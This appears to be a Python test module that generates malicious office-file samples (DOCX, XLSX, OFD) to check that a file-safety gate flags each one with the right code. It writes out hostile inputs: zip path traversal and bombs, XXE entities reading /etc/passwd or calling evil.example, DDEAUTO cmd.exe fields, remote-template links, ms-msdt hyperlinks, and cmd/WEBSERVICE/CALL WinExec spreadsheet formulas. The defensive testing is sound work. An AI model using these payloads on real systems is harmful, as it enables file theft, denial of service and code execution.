"""Attacks on the frame of office files, and on what stands inside them."""

import struct
import zipfile
from collections.abc import Callable, Iterator

from hengji.foundation.evidence.gate import Code, Kind

from .build import (
    Sample,
    content_types,
    docx,
    ofd,
    ofd_parts,
    png,
    relations,
    sheet_parts,
    word_parts,
    word_xml,
    xlsx,
    zipped,
)  # fmt: skip

Parts = dict[str, bytes]
MAKERS: dict[Kind, tuple[Callable[[], Parts], str]] = {
    Kind.DOCX: (word_parts, "word/"), Kind.XLSX: (sheet_parts, "xl/"), Kind.OFD: (ofd_parts, "Doc_0/"),
}  # fmt: skip
_PATHS = (
    "../../etc/a.xml", "/etc/a.xml", "a\\..\\b.xml", "C:/a.xml", "a/../b.xml", "a//b.xml", "a/./b.xml", "..", "a\n.xml",
    "a/\u202elmx.xml",
)  # fmt: skip
_DTDS = (
    b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>',
    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    b"<!DOCTYPE a><a/>",
)


def archive_attacks() -> Iterator[Sample]:
    for kind, (make, _) in MAKERS.items():
        base = list(make().items())
        last = base[-1]

        def attack(title: str, content: bytes, code: Code, kind: Kind = kind) -> Sample:
            return Sample("archive", f"{title} in {kind}", f"a.{kind}", content, code)

        for path in _PATHS:
            yield attack(f"path {path!r}", zipped([*base, (_info(path), b"<a/>")]), Code.ARCHIVE_PATH)
        yield attack("link", zipped([*base, (_info("a.xml", 0o120777), b"/etc/passwd")]), Code.ARCHIVE_LINK)
        yield attack("device", zipped([*base, (_info("a.xml", 0o020666), b"")]), Code.ARCHIVE_LINK)
        yield attack("same name", _twice(base, last[0]), Code.ARCHIVE_DUPLICATE)
        yield attack("name in capitals", _twice(base, last[0].upper()), Code.ARCHIVE_DUPLICATE)
        yield attack("too many", zipped([*base, *((f"a/{n}.xml", b"<a/>") for n in range(2_001))]), Code.ARCHIVE_MANY)
        yield attack("bomb", zipped([*base, ("a.xml", bytes(30_000_000))]), Code.ARCHIVE_BOMB)
        yield attack("declared bomb", _declare(zipped(base), 900_000_000), Code.ARCHIVE_BOMB)
        yield attack("size too small", _declare(zipped(base), 5), Code.ARCHIVE_BROKEN)
        yield attack("size too large", _declare(zipped(base), 5_000), Code.ARCHIVE_BROKEN)
        yield attack("overlap", _overlap(zipped(base)), Code.ARCHIVE_OVERLAP)
        yield attack("damaged", _damaged(zipped(base, method=zipfile.ZIP_STORED)), Code.ARCHIVE_BROKEN)
        yield attack("cut off", zipped(base)[:-30], Code.ARCHIVE_BROKEN)
        yield attack("locked", _locked(zipped(base)), Code.ARCHIVE_ENCRYPTED)
        yield attack("other name inside", _renamed(zipped(base), last[0]), Code.ARCHIVE_BROKEN)
        yield attack("bzip2", zipped(base, method=zipfile.ZIP_BZIP2), Code.ARCHIVE_BROKEN)
        yield attack("lzma", zipped(base, method=zipfile.ZIP_LZMA), Code.ARCHIVE_BROKEN)
        yield attack("comment", _commented(zipped(base)), Code.POLYGLOT)
        yield attack("only the end", b"PK\5\6" + bytes(18), Code.NOT_WHAT_IT_SAYS)


def _info(name: str, mode: int = 0o100644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("a", (2026, 11, 23, 9, 0, 0))
    info.filename = info.orig_filename = name
    info.external_attr = mode << 16
    return info


def _twice(base: list[tuple[str, bytes]], name: str) -> bytes:
    return zipped([*base, ("@" * len(name), b"<a/>")]).replace(b"@" * len(name), name.encode())


def _directory(content: bytes) -> int:
    """Where the last entry of the directory begins."""
    return content.rindex(b"PK\1\2")


def _with(content: bytes, at: int, form: str, value: int) -> bytes:
    return content[:at] + struct.pack(form, value) + content[at + struct.calcsize(form) :]


def _declare(content: bytes, size: int) -> bytes:
    return _with(content, _directory(content) + 24, "<I", size)


def _overlap(content: bytes) -> bytes:
    return _with(content, _directory(content) + 42, "<I", 0)


def _locked(content: bytes) -> bytes:
    return _with(content, _directory(content) + 8, "<H", 1)


def _damaged(content: bytes) -> bytes:
    at = content.index(b"PK\1\2") - 3
    return content[:at] + b"#" + content[at + 1 :]


def _renamed(content: bytes, name: str) -> bytes:
    at = content.index(name.encode(), content.rindex(b"PK\3\4"))
    return content[:at] + b"#" + content[at + 1 :]


def _commented(content: bytes) -> bytes:
    return _with(content, len(content) - 2, "<H", 8) + b"<script>"


def office_attacks() -> Iterator[Sample]:
    for kind, (make, folder) in MAKERS.items():
        for title, parts, code in (*_parts(folder), *_xml(folder)):
            content = zipped((make() | parts).items())
            yield Sample("office", f"{title} in {kind}", f"a.{kind}", content, code)
    for kind, (make, folder) in list(MAKERS.items())[:2]:
        for title, parts, code in (*_macros(folder, make()), *_relations(folder)):
            content = zipped((make() | parts).items())
            yield Sample("office", f"{title} in {kind}", f"a.{kind}", content, code)
    yield from _types()
    yield from _fields()
    yield from _layouts()


Case = tuple[str, Parts, Code]


def _parts(folder: str) -> Iterator[Case]:
    for suffix in ("exe", "dll", "vbs", "js", "bat", "ps1", "jar", "lnk", "hta", "scr"):
        yield f"part .{suffix}", {f"{folder}a.{suffix}": b"a"}, Code.EXECUTABLE
    for suffix in ("zip", "rar", "7z", "docx", "xlsx", "pdf", "docm"):
        yield f"part .{suffix}", {f"{folder}a.{suffix}": b"a"}, Code.ARCHIVE_NESTED
    for title, head, code in (
        ("windows program", b"MZ" + bytes(90), Code.EXECUTABLE), ("linux program", b"\x7fELF" + bytes(90), Code.EXECUTABLE),
        ("script", b"#!/bin/sh\n", Code.EXECUTABLE), ("shortcut", b"L\0\0\0\1\x14\2\0" + bytes(9), Code.EXECUTABLE),
        ("java", b"\xca\xfe\xba\xbe" + bytes(9), Code.EXECUTABLE), ("archive", b"PK\3\4" + bytes(90), Code.ARCHIVE_NESTED),
        ("rar", b"Rar!\x1a\x07" + bytes(9), Code.ARCHIVE_NESTED), ("pdf", b"%PDF-1.7\n", Code.ARCHIVE_NESTED),
        ("compound file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9), Code.OLE),
    ):  # fmt: skip
        yield f"{title} as picture", {f"{folder}media/a.png": head}, code
    yield "unknown part", {f"{folder}a.xyz": b"a"}, Code.ARCHIVE_MEMBER
    yield "part without suffix", {f"{folder}payload": b"a"}, Code.ARCHIVE_MEMBER
    flood = png(60_000, 60_000, data=b"")
    yield "pixel flood", {f"{folder}media/a.png": flood}, Code.IMAGE_PIXELS


def _xml(folder: str) -> Iterator[Case]:
    for place, text in enumerate(_DTDS):
        yield f"dtd {place}", {f"{folder}extra.xml": text}, Code.XML_DTD
    yield "broken xml", {f"{folder}extra.xml": b"<a><b></a>"}, Code.XML_BROKEN
    yield "unknown entity", {f"{folder}extra.xml": b"<a>&x;</a>"}, Code.XML_BROKEN
    yield "strange encoding", {f"{folder}extra.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}, Code.XML_BROKEN
    yield "deep xml", {f"{folder}extra.xml": b"<a>" * 300 + b"</a>" * 300}, Code.XML_SIZE
    yield "script element", {f"{folder}extra.xml": b"<svg><script>alert(1)</script></svg>"}, Code.SCRIPT
    yield "script handler", {f"{folder}extra.xml": b'<svg onload="alert(1)"/>'}, Code.SCRIPT
    yield "script address", {f"{folder}extra.xml": b'<a href=" JavaScript:alert(1)"/>'}, Code.SCRIPT


def _macros(folder: str, base: Parts) -> Iterator[Case]:
    types = "[Content_Types].xml"
    for title, name, code in (
        ("macros", "vbaProject.bin", Code.MACRO), ("macro data", "vbaData.xml", Code.MACRO),
        ("signed macros", "vbaProjectSignature.bin", Code.MACRO), ("old macros", "macrosheets/sheet1.xml", Code.MACRO),
        ("ribbon", "customUI/customUI.xml", Code.MACRO), ("toolbars", "attachedToolbars.bin", Code.MACRO),
        ("dialogue", "dialogsheets/sheet1.xml", Code.MACRO), ("control", "activeX/activeX1.xml", Code.ACTIVEX),
        ("control data", "activeX/activeX1.bin", Code.ACTIVEX), ("object", "embeddings/oleObject1.bin", Code.OLE),
        ("embedded", "embeddings/a.bin", Code.OLE), ("chunk", "afchunk.mht", Code.REMOTE),
        ("page", "afchunk.html", Code.REMOTE), ("link to a book", "externalLinks/externalLink1.xml", Code.REMOTE),
        ("connection", "connections.xml", Code.REMOTE), ("query", "queryTables/queryTable1.xml", Code.REMOTE),
        ("add-in", "webextensions/webextension1.xml", Code.REMOTE), ("pane", "webextensions/taskpanes.xml", Code.REMOTE),
    ):  # fmt: skip
        yield title, {f"{folder}{name}": b"<a/>"}, code
    override = b'<Override PartName="/x" ContentType="%s"/></Types>'
    for kind, code in (
        (b"application/vnd.ms-office.vbaProject", Code.MACRO), (b"application/vnd.ms-office.activeX+xml", Code.ACTIVEX),
        (b"application/vnd.openxmlformats-officedocument.oleObject", Code.OLE),
        (b"application/vnd.ms-word.document.macroEnabled.main+xml", Code.MACRO),
    ):  # fmt: skip
        yield f"type {kind.decode()}", {types: base[types].replace(b"</Types>", override % kind)}, code


def _relations(folder: str) -> Iterator[Case]:
    name = f"{folder}_rels/{'document' if folder == 'word/' else 'workbook'}.xml.rels"
    for kind, target, mode, code in (
        ("attachedTemplate", "http://evil.example/a.dotm", "External", Code.TEMPLATE),
        ("attachedTemplate", "file://evil.example/share/a.dotm", "External", Code.TEMPLATE),
        ("attachedTemplate", "\\\\evil\\share\\a.dotm", "External", Code.TEMPLATE),
        ("attachedTemplate", "https://evil.example/a.dotm", "", Code.TEMPLATE),
        ("image", "http://evil.example/a.png", "External", Code.REMOTE),
        ("image", "\\\\evil\\a.png", "", Code.REMOTE),
        ("image", "&#104;ttp://evil.example/a.png", "", Code.REMOTE),
        ("oleObject", "http://evil.example/a.html!", "External", Code.REMOTE),
        ("frame", "http://evil.example/", "External", Code.REMOTE),
        ("subDocument", "file:///C:/a.docx", "External", Code.REMOTE),
        ("externalLinkPath", "http://evil.example/a.xlsx", "External", Code.REMOTE),
        ("hyperlink", "javascript:alert(1)", "External", Code.REMOTE),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", "External", Code.REMOTE),
        ("hyperlink", "search-ms:query=a", "External", Code.REMOTE),
        ("hyperlink", "file://evil.example/a.exe", "External", Code.REMOTE),
        ("hyperlink", "\\\\evil\\share\\a.exe", "External", Code.REMOTE),
        ("vbaProject", "vbaProject.xml", "", Code.MACRO),
        ("control", "../activeX/a.xml", "", Code.ACTIVEX),
    ):
        more = {"xl/activeX/a.xml": b"<a/>", "word/activeX/a.xml": b"<a/>"} if kind == "control" else {}
        yield f"{kind} {target} {mode}", {name: relations((kind, target, mode))} | more, code


def _types() -> Iterator[Sample]:
    for kind, mime in (
        ("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        ("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("xlsx", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        ("xlsx", "application/vnd.ms-excel.addin.macroEnabled.main+xml"),
    ):
        parts = (word_parts() if kind == "docx" else sheet_parts()) | {
            "[Content_Types].xml": content_types(mime, "x.xml")
        }
        yield Sample("office", f"{mime} as {kind}", f"a.{kind}", zipped(parts.items()), Code.NOT_WHAT_IT_SAYS)
    yield Sample("office", "no types", "a.docx", zipped([("a.xml", b"<a/>")]), Code.NOT_WHAT_IT_SAYS)
    yield Sample("office", "no root", "a.ofd", zipped([("a.xml", b"<a/>")]), Code.NOT_WHAT_IT_SAYS)
    yield Sample("office", "other root", "a.ofd", zipped([("OFD.xml", b"<a/>")]), Code.NOT_WHAT_IT_SAYS)
    vml = {"word/a.vml": b'<!DOCTYPE a [<!ENTITY x "y">]><xml/>'}
    yield Sample("office", "dtd in vml", "a.docx", docx(vml), Code.XML_DTD)
    yield Sample("office", "script in vml", "a.docx", docx({"word/a.vml": b"<xml><script>a</script>"}), Code.SCRIPT)
    start = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x "y">]>'
    yield Sample(
        "office", "dtd in the text", "a.docx", docx({"word/document.xml": word_xml(start=start)}), Code.XML_DTD
    )


def _fields() -> Iterator[Sample]:
    run = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
    for code in (
        r"DDEAUTO c:\\windows\\system32\\cmd.exe", r"DDE excel a", r"INCLUDEPICTURE &quot;http://evil.example/a.png&quot;",
        r"INCLUDETEXT &quot;\\\\evil\\a.docx&quot;", r"LINK Excel.Sheet &quot;C:\\a.xlsx&quot;", "MACROBUTTON Evil 点此",
        r"RD &quot;file://evil/a.docx&quot;",
    ):  # fmt: skip
        yield Sample("office", f"field {code}", "a.docx", docx(body=run.format(code)), Code.FIELD)
        simple = f'<w:p><w:fldSimple w:instr="{code}"/></w:p>'
        yield Sample("office", f"simple field {code}", "a.docx", docx(body=simple), Code.FIELD)
    split = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAU", "TO cmd.exe"))
    yield Sample("office", "field in pieces", "a.docx", docx(body=f"<w:p>{split}</w:p>"), Code.FIELD)
    for formula in ("cmd|'/c calc'!A0", 'WEBSERVICE("http://evil.example")', 'CALL("Kernel32","WinExec","JFJ","calc")',
                    'REGISTER("Kernel32","A","B")', "MSEXCEL|'\\..\\cmd.exe'!A0"):  # fmt: skip
        cells = f'<row r="1"><c r="A1"><f>{formula}</f></c></row>'
        yield Sample("office", f"formula {formula}", "a.xlsx", xlsx(cells=cells), Code.FIELD)


def _layouts() -> Iterator[Sample]:
    for action in ('<URI URI="file:///C:/a.exe"/>', '<URI URI="javascript:a"/>', "<GotoA/>", "<Movie/>", "<Sound/>"):
        parts = {"Doc_0/Annots/a.xml": f"<a>{action}</a>".encode()}
        yield Sample("office", f"ofd {action}", "a.ofd", ofd(parts), Code.REMOTE)
    for name in ("Doc_0/Attachs/Attachments.xml", "Doc_0/Attachments.xml"):
        yield Sample("office", name, "a.ofd", ofd({name: b"<a/>"}), Code.ARCHIVE_NESTED)
